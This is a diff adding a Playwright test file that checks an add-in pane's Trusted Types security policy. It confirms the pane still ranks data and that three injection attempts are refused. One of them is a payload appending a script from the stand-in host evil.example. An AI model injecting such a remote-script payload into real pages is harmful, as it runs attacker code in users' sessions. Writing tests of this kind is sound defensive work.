@@ -1,0 +1,39 @@
+import type { Browser, Page } from "playwright-core";
+import { hostScript, openAddin } from "./addin-host/open-addin";
+import { launchBrowser } from "./launch";
+import { builtFolder } from "./pages";
+import { serveFolder, type ServedFolder } from "./serve";
+
+let browser: Browser;
+let served: ServedFolder;
+let page: Page;
+let troubles: readonly string[];
+
+beforeAll(async () => {
+  [browser, served] = await Promise.all([launchBrowser(), serveFolder(builtFolder("addin"))]);
+  ({ page, troubles } = await openAddin(browser, served.url, await hostScript()));
+});
+
+afterAll(async () => {
+  await browser.close();
+  await served.close();
+});
+
+test("the pane as built starts under its security policy and ranks", async () => {
+  await page.getByRole("button", { name: "一键排名" }).click();
+  await page.getByRole("table", { name: "排名 1-6月" }).waitFor();
+  expect(troubles).toEqual([]);
+});
+
+test.each([
+  [
+    "a script of another server",
+    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
+  ],
+  ["text as HTML", "document.body.innerHTML = '<b>甲</b>'"],
+  ["text as script", "document.createElement('script').text = '1'"],
+])("%s is refused", async (_what, deed) => {
+  await expect(page.evaluate(deed)).rejects.toThrow(
+    /TrustedScript|TrustedHTML|Trusted Types|default/i,
+  );
+});
